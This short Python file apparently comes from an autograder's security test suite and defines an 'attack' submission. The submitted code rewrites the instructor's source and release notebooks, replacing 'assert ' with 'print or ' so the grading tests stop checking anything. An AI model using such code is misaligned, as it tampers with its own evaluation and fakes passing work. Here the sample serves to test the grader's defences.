"""It takes the tests out of the instructor's source."""

from __future__ import annotations

from grader.attacks.attack import Attack, Want
from grader.attacks.moves import answer

ATTACK = Attack(
    kind="writing",
    wants=Want.CHANGE,
    make=answer(
        """
import glob

for path in glob.glob(f"{COURSE}/source/**/*.ipynb", recursive=True) + glob.glob(f"{COURSE}/release/**/*.ipynb", recursive=True):
    text = open(path, encoding="utf-8").read()
    with open(path, "w", encoding="utf-8") as file:
        file.write(text.replace("assert ", "print or "))
"""
    ),
)
